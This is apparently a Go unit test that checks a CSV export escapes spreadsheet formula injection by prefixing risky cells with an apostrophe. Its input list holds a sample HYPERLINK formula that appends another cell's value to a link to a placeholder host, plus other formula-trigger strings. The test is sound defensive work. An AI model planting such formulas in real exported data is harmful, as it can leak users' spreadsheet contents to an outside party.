package domain

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

// TestSheetWriterKeepsFormulasText: what a customer typed that a
// spreadsheet would run as a formula is written as text; numbers,
// negative points and phone numbers stay as they are.
func TestSheetWriterKeepsFormulasText(t *testing.T) {
	var buf strings.Builder
	w, err := NewSpreadsheetCSV(&buf, "en")
	if err != nil {
		t.Fatal(err)
	}
	in := []string{`=HYPERLINK("http://x/?"&C2,"Anna")`, "+SUM(A1)", "-2+3", "@cmd", "\tx", "Anna", "-50", "+79991234567",
		"1500.50", "-", "", "2026-11-22 15:00"}
	keep := slices.Clone(in)
	if err := w.Write(in); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if !slices.Equal(in, keep) {
		t.Errorf("the caller's record changed: %q", in)
	}
	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://x/?"&C2,"Anna")`, "'+SUM(A1)", "'-2+3", "'@cmd", "'\tx", "Anna", "-50", "+79991234567",
		"1500.50", "'-", "", "2026-11-22 15:00"}
	if !slices.Equal(got, want) {
		t.Errorf("written %q\nwant    %q", got, want)
	}
}
